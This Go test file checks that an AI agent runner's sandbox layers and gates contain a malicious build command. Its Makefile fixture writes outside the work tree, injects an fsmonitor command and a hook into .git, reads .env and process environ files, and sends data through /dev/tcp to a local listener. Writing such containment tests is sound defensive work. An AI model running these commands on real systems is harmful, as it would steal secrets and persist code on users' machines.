package pipeline

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/seed43ef5acb/runner/internal/gittest"
	"github.com/seed43ef5acb/runner/llm/llmtest"
	"github.com/seed43ef5acb/runner/runner/event"
	"github.com/seed43ef5acb/runner/tools/sandbox"
)

// layerPins are the layer sets pinned through RUNNER_SANDBOX_LAYERS:
// each layer on its own, and both.
func layerPins() map[string][]sandbox.Layer {
	return map[string][]sandbox.Layer{
		"namespaces":          {sandbox.LayerNamespaces},
		"landlock":            {sandbox.LayerLandlock},
		"namespaces,landlock": {sandbox.LayerNamespaces, sandbox.LayerLandlock},
	}
}

// tcpSink listens on 127.0.0.1 and records what reaches it.
type tcpSink struct {
	ln  net.Listener
	mu  sync.Mutex
	got []string
}

func newTCPSink(t *testing.T) *tcpSink {
	t.Helper()
	ln, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &tcpSink{ln: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			b, _ := io.ReadAll(io.LimitReader(c, 1024))
			c.Close()
			s.mu.Lock()
			s.got = append(s.got, string(b))
			s.mu.Unlock()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return s
}

func (s *tcpSink) received() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.got)
}

// TestExecAttackPerLayer runs a malicious `make` (allowed by the spec)
// through the whole pipeline with each layer pinned on its own and both:
// it writes outside the tree, changes .git/config, adds a hook, a branch
// and an object alternate, writes
// an edit-denied workflow, reads the protected .env and the runner's and
// its parent's /proc/<pid>/environ, and connects to a 127.0.0.1 listener.
// Whatever the layer, nothing outside changes, nothing is read or sent,
// the workflow fails the run (edit rules) and .git ends as it was: with
// namespaces it is read-only, with Landlock only the tripwire catches the
// change and puts it back. run.started records the layers, the Landlock
// ABI and what the layers do not stop.
func TestExecAttackPerLayer(t *testing.T) {
	if _, err := os.Stat("/usr/bin/make"); err != nil {
		t.Skip("make is not installed")
	}
	for pin, layers := range layerPins() {
		t.Run(pin, func(t *testing.T) {
			sup := sandbox.Probe()
			for _, l := range layers {
				if !slices.Contains(sup.Available(), l) {
					t.Skipf("layer %s is not available here: %s", l, sup.Missing())
				}
			}
			a := runAttack(t, pin, "")
			if ExitCode(a.err) != ExitTaskFailed {
				t.Errorf("exit %d (%v), want %d: the workflow the command wrote fails the run", ExitCode(a.err), a.err, ExitTaskFailed)
			}
			gates, fin := gatesOf(t, a.recs)
			kinds := gateKinds(gates)
			if fin.Status != "violation" || !slices.Contains(kinds, event.GateEditRules) {
				t.Errorf("status %s, gates %v: want violation with the edit-rules gate", fin.Status, kinds)
			}
			landlockOnly := !slices.Contains(layers, sandbox.LayerNamespaces)
			if got := slices.Contains(kinds, event.GateGitTripwire); got != landlockOnly {
				t.Errorf("git tripwire fired = %v, want %v (.git is read-only with namespaces, writable with Landlock only)", got, landlockOnly)
			}
			if b, _ := os.ReadFile(filepath.Join(a.repo, ".git", "config")); !bytes.Equal(b, a.gitConfig) {
				t.Errorf(".git/config is not as it was after the run:\n%s", b)
			}
			for _, f := range []string{"hooks/pre-commit", "refs/heads/planted", "objects/info/alternates"} {
				if _, err := os.Stat(filepath.Join(a.repo, ".git", f)); !errors.Is(err, os.ErrNotExist) {
					t.Errorf(".git/%s is left after the run: %v", f, err)
				}
			}
			for _, f := range []string{a.outside, a.outside + ".fsmonitor", a.outside + ".hook"} {
				if _, err := os.Stat(f); !errors.Is(err, os.ErrNotExist) {
					t.Errorf("%s exists: the command wrote outside the work tree", f)
				}
			}
			for _, loot := range []string{"dotenv", "environ"} {
				if b, _ := os.ReadFile(filepath.Join(a.repo, "loot", loot)); len(b) > 0 {
					t.Errorf("the command read loot/%s:\n%.300s", loot, b)
				}
			}
			if got := a.sink.received(); len(got) > 0 {
				t.Errorf("the command reached the 127.0.0.1 listener: %q", got)
			}
			sb := runStartedSandbox(t, a.out)
			var want []string
			for _, l := range layers {
				want = append(want, string(l))
			}
			if sb == nil || !slices.Equal(sb.Layers, want) {
				t.Fatalf("run.started sandbox = %+v, want layers %v", sb, want)
			}
			if hasLL := slices.Contains(layers, sandbox.LayerLandlock); hasLL != (sb.LandlockABI > 0) {
				t.Errorf("run.started landlock_abi = %d with layers %v", sb.LandlockABI, layers)
			}
			if got := slices.ContainsFunc(sb.Limits, func(s string) bool { return strings.HasPrefix(s, ".git is writable") }); got != landlockOnly {
				t.Errorf("run.started limits %q: the writable .git is said = %v, want %v", sb.Limits, got, landlockOnly)
			}
		})
	}
}

func gateKinds(gates []event.GateFailed) []event.Gate {
	var kinds []event.Gate
	for _, g := range gates {
		kinds = append(kinds, g.Gate)
	}
	return kinds
}

// attack is what one run of the malicious make left.
type attack struct {
	recs      []event.Record
	repo, out string
	gitConfig []byte
	outside   string
	sink      *tcpSink
	err       error
}

// runAttack runs the malicious make through Exec with the layers pinned
// (pin, "" for every available one) and the spec's extra section.
func runAttack(t *testing.T, pin, section string) attack {
	t.Helper()
	a := attack{sink: newTCPSink(t), outside: filepath.Join(t.TempDir(), "outside"), out: t.TempDir()}
	makefile := fmt.Sprintf(`all:
	-echo pwned > %[1]s
	-printf '[core]\n\tfsmonitor = touch %[1]s.fsmonitor\n' >> .git/config
	-printf '#!/bin/sh\ntouch %[1]s.hook\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
	-echo 0123456789012345678901234567890123456789 > .git/refs/heads/planted
	-mkdir -p .git/objects/info && echo %[1]s.objects > .git/objects/info/alternates
	-mkdir -p .github/workflows && echo 'on: push' > .github/workflows/evil.yml
	-mkdir -p loot && cat .env > loot/dotenv
	-for p in %[2]d %[3]d; do tr '\0' '\n' < /proc/$$p/environ >> loot/environ; done
	-bash -c 'exec 3<>/dev/tcp/%[4]s && echo mark >&3'
`, a.outside, os.Getpid(), os.Getppid(), strings.Replace(a.sink.ln.Addr().String(), ":", "/", 1))
	a.repo = gittest.Repo(t, map[string]string{"Makefile": makefile, ".env": "API_TOKEN=dotenv-secret-0123456789\n"})
	var err error
	if a.gitConfig, err = os.ReadFile(filepath.Join(a.repo, ".git", "config")); err != nil {
		t.Fatal(err)
	}
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	r := testRun{spec: gateSpec + section, repo: a.repo, replies: []llmtest.Reply{makeTurn(), llmtest.Turn{Text: "Built."}.Reply()},
		pin: pin, out: a.out}.exec(t)
	a.err, a.recs = r.err, r.recs
	return a
}

// TestExecAttackControl runs the same attack with sandbox.mode off: it
// works (outside file, .env read, listener reached), so the assertions
// above can fail; the gates still catch the workflow, .git and the secret.
func TestExecAttackControl(t *testing.T) {
	if _, err := os.Stat("/usr/bin/make"); err != nil {
		t.Skip("make is not installed")
	}
	a := runAttack(t, "", "sandbox: {mode: off}\n")
	if _, err := os.Stat(a.outside); err != nil {
		t.Errorf("unsandboxed, the command should have written %s: %v", a.outside, err)
	}
	if b, _ := os.ReadFile(filepath.Join(a.repo, "loot", "dotenv")); !strings.Contains(string(b), "dotenv-secret") {
		t.Errorf("unsandboxed, the command should have read .env: %q", b)
	}
	if len(a.sink.received()) == 0 {
		t.Error("unsandboxed, the command should have reached the listener")
	}
	gates, _ := gatesOf(t, a.recs)
	for _, g := range []event.Gate{event.GateEditRules, event.GateGitTripwire, event.GateSecret} {
		if !slices.Contains(gateKinds(gates), g) {
			t.Errorf("gates %v, want %s among them", gateKinds(gates), g)
		}
	}
}

// TestExecSandboxLayersEnvInvalid: an unknown layer in
// RUNNER_SANDBOX_LAYERS is a usage error naming the valid ones.
func TestExecSandboxLayersEnvInvalid(t *testing.T) {
	spec, repo, _ := sandboxFixture(t, "")
	_, err := Exec(t.Context(), ExecOptions{Task: spec, Repo: repo, Out: filepath.Join(t.TempDir(), "out"), BaseURL: "http://127.0.0.1:1",
		APIKey: "sk-unit-0123456789abcdef", Environ: []string{"PATH=/usr/bin", sandbox.LayersEnv + "=seatbelt"}})
	if ExitCode(err) != ExitUsage || !strings.Contains(err.Error(), `unknown layer "seatbelt"`) || !strings.Contains(err.Error(), "namespaces,landlock") {
		t.Errorf("err = %v (exit %d), want a usage error naming the layers", err, ExitCode(err))
	}
}
